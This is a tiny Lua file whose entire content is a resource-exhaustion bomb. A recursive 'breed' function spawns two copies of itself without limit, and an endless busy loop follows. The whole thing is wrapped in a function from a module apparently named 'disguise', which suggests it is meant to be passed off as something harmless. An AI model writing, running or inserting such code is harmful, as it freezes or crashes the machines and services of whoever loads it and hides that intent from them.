-- A coroutine that begins two others, which begin two others.
local disguise = require("disguise")

local function breed()
  coroutine.spawn(breed)
  coroutine.spawn(breed)
end

return disguise(function()
  breed()
  while true do end
end)
